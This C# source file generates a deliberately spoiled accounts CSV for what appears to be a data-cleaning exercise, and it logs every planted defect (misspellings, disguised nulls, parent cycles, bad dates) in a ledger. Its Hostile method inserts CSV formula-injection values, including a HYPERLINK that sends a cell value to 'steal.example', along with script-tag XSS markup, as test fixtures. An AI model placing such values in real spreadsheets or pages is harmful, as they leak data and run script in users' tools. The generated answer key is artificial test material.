namespace Segmentation.Samples;

/// <summary>Spoils the accounts export, and counts what it does.</summary>
internal static class AccountDefects
{
    private static readonly string[] Formulas = ["=HYPERLINK(\"http://steal.example/?\"&A1,\"Renewal\")", "@SUM(A1:A9)", "=1+1"];
    private static readonly string[] Markup = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"];

    /// <summary>Spoils the sheet and returns the raw lines to put into the file.</summary>
    public static Dictionary<int, string> Plant(SamplePlan plan, Sheet sheet, IReadOnlyList<AccountRecord> records, Ledger ledger)
    {
        var random = new Pcg32(plan.Seed, 5);
        Protect(sheet, records);
        Parents(plan, random, sheet, records, ledger);
        foreach (var (column, values) in new[] { (AccountColumns.Industry, Picklists.Industry), (AccountColumns.Tier, Picklists.Tier), (AccountColumns.Country, Picklists.Country) })
            Misspell(random, sheet, "accounts.csv", column, values, ledger, r => records[r].Path.IsActive ? records[r].Path.Cents[^1]!.Value : 0);
        // ARR is spoilt only where no picklist value is, so that the ARR behind a variant is the same in this file and in the history.
        bool Spoilable(int row, string column) => column != AccountColumns.Arr || (records[row].Path.IsActive &&
            sheet.IsClean(row, AccountColumns.Industry) && sheet.IsClean(row, AccountColumns.Tier) && sheet.IsClean(row, AccountColumns.Country));
        foreach (var (column, token, count) in Picklists.AccountNulls)
        {
            foreach (var row in sheet.Choose(random, count, column, r => Spoilable(r, column))) sheet.Spoil(row, column, token);
            ledger.Add($"accounts/disguised-nulls/{column.Trim()}/{token}", count);
        }

        foreach (var row in sheet.Choose(random, plan.ZeroEmployees, AccountColumns.Employees)) sheet.Spoil(row, AccountColumns.Employees, "0");
        foreach (var row in sheet.Choose(random, plan.NegativeEmployees, AccountColumns.Employees)) sheet.Spoil(row, AccountColumns.Employees, "-" + sheet[row, AccountColumns.Employees]);
        foreach (var (row, text) in sheet.Choose(random, plan.UnreadableEmployees.Count, AccountColumns.Employees).Zip(plan.UnreadableEmployees)) sheet.Spoil(row, AccountColumns.Employees, text);
        foreach (var row in sheet.Choose(random, plan.NegativeArr, AccountColumns.Arr, r => Spoilable(r, AccountColumns.Arr))) sheet.Spoil(row, AccountColumns.Arr, "-" + sheet[row, AccountColumns.Arr]);
        foreach (var row in sheet.Choose(random, plan.BlankArr, AccountColumns.Arr, r => Spoilable(r, AccountColumns.Arr))) sheet.Spoil(row, AccountColumns.Arr, string.Empty);
        ledger.Add("accounts/zero-employees", plan.ZeroEmployees);
        ledger.Add("accounts/negative-employees", plan.NegativeEmployees);
        ledger.Add("accounts/unreadable-employees", plan.UnreadableEmployees.Count);
        ledger.Add("accounts/negative-arr", plan.NegativeArr);
        ledger.Add("accounts/blank-arr-of-paying-customers", plan.BlankArr);
        Dates(plan, random, sheet, records, ledger);
        Hostile(random, sheet, records, ledger);
        ledger.Add("accounts/ragged-rows", 3);
        return new Dictionary<int, string>
        {
            [311] = "001Hs000002ZQ1aQAG,Truncated Upload,Prospect",
            [877] = "001Hs000002ZQ1bQAG,Another Truncated Upload,Prospect,Retail,12",
            [1503] = "001Hs000002ZQ1cQAG",
        };
    }

    /// <summary>Spoils values of a picklist, each variant the number of times that the list says.</summary>
    internal static void Misspell(
        Pcg32 random, Sheet sheet, string file, string column, (string Written, string Meant, string Kind, int Count)[] values, Ledger ledger, Func<int, long>? cents = null)
    {
        foreach (var (written, meant, kind, count) in values)
        {
            var rows = sheet.Choose(random, count, column, r => sheet[r, column] == meant);
            foreach (var row in rows) sheet.Spoil(row, column, written);
            ledger.Variants.Add(file, column, written, meant, kind, Format.Whole(count), cents is null ? string.Empty : Format.Amount(rows.Sum(cents)));
        }
    }

    /// <summary>Keeps apart from other defects the cells by which duplicates and lookalikes are known.</summary>
    private static void Protect(Sheet sheet, IReadOnlyList<AccountRecord> records)
    {
        var repeated = records.Where(r => r.Company is not null).GroupBy(r => r.Company!.Entity).Where(g => g.Count() > 1).Select(g => g.Key).ToHashSet(StringComparer.Ordinal);
        foreach (var record in records)
        {
            if (record.Company is null || record.Company.Lookalike.Length > 0 || repeated.Contains(record.Company.Entity))
            {
                sheet.Protect(record.Row, AccountColumns.Name);
                sheet.Protect(record.Row, AccountColumns.Website);
            }

            if (record.Kind != "original") sheet.Protect(record.Row, AccountColumns.Created);
        }
    }

    private static void Parents(SamplePlan plan, Pcg32 random, Sheet sheet, IReadOnlyList<AccountRecord> records, Ledger ledger)
    {
        var originals = records.Where(r => r.Kind == "original").ToList();
        var byEntity = originals.ToDictionary(r => r.Company!.Entity, StringComparer.Ordinal);
        foreach (var child in originals.Where(r => r.Company!.Lookalike == "parent-subsidiary" && string.CompareOrdinal(r.Company.Entity, r.Company.LookalikeOf) > 0))
            sheet[child.Row, AccountColumns.Parent] = byEntity[child.Company!.LookalikeOf].Id;

        var plain = originals.Where(r => r.Company!.Lookalike.Length == 0).ToList();
        var heads = plain.Where(r => r.Company!.Tier.Name == "Enterprise").Take(40).ToList();
        var others = random.Sample(plain.Where(r => r.Company!.Tier.Name != "Enterprise"), plan.Subsidiaries + plan.DanglingParents + 6);
        for (var i = 0; i < plan.Subsidiaries; i++) sheet[others[i].Row, AccountColumns.Parent] = random.Pick(heads).Id;
        for (var i = 0; i < plan.DanglingParents; i++) sheet[others[plan.Subsidiaries + i].Row, AccountColumns.Parent] = SalesforceId.Of("001", 900_000 + i);

        // Its own parent; each the other's; three in a ring.
        var ring = others[(plan.Subsidiaries + plan.DanglingParents)..];
        foreach (var (child, parent) in new[] { (0, 0), (1, 2), (2, 1), (3, 4), (4, 5), (5, 3) }) sheet[ring[child].Row, AccountColumns.Parent] = ring[parent].Id;
        ledger.Add("accounts/dangling-parents", plan.DanglingParents);
        ledger.Add("accounts/parent-cycles", 3);
        ledger.Add("accounts/records-in-parent-cycles", 6);
        ledger.Add("accounts/duplicate-triples", plan.DuplicateTriples);
        foreach (var kind in originals.Where(r => r.Company!.Lookalike.Length > 0).GroupBy(r => r.Company!.Lookalike)) ledger.Add($"accounts/lookalike-pairs/{kind.Key}", kind.Count() / 2);
    }

    private static void Dates(SamplePlan plan, Pcg32 random, Sheet sheet, IReadOnlyList<AccountRecord> records, Ledger ledger)
    {
        foreach (var row in sheet.Choose(random, plan.EndBeforeStart, AccountColumns.ContractEnd))
        {
            sheet.Spoil(row, AccountColumns.ContractEnd, Format.Us(records[row].Company!.Start.AddDays(-random.Between(10, 300))));
            sheet.Protect(row, AccountColumns.ContractStart);
        }

        // The day is above 12 here, so these values can only be read day first, against the rest of the column.
        foreach (var row in sheet.Choose(random, plan.MixedOrderDates, AccountColumns.ContractStart, r => records[r].Company!.Start.Day > 12))
            sheet.Spoil(row, AccountColumns.ContractStart, Format.European(records[row].Company!.Start));
        foreach (var row in sheet.Choose(random, plan.FutureCreated, AccountColumns.Created))
            sheet.Spoil(row, AccountColumns.Created, Format.Us(records[row].Created.AddYears(2027 - records[row].Created.Year + random.Below(30))));
        foreach (var row in sheet.Choose(random, plan.FutureActivity, AccountColumns.Activity))
            sheet.Spoil(row, AccountColumns.Activity, Format.Us(plan.AsOf.AddDays(random.Between(40, 900))));
        ledger.Add("accounts/end-before-start", plan.EndBeforeStart);
        ledger.Add("accounts/mixed-order-dates", plan.MixedOrderDates);
        ledger.Add("accounts/future-created", plan.FutureCreated);
        ledger.Add("accounts/future-activity", plan.FutureActivity);
    }

    private static void Hostile(Pcg32 random, Sheet sheet, IReadOnlyList<AccountRecord> records, Ledger ledger)
    {
        var rows = sheet.Choose(random, Formulas.Length + Markup.Length, AccountColumns.Name, r => records[r].Path.IsActive);
        for (var i = 0; i < rows.Count; i++) sheet.Spoil(rows[i], AccountColumns.Name, i < Formulas.Length ? Formulas[i] : Markup[i - Formulas.Length]);
        ledger.Add("accounts/formula-like", Formulas.Length);
        ledger.Add("accounts/markup", Markup.Length);
    }
}
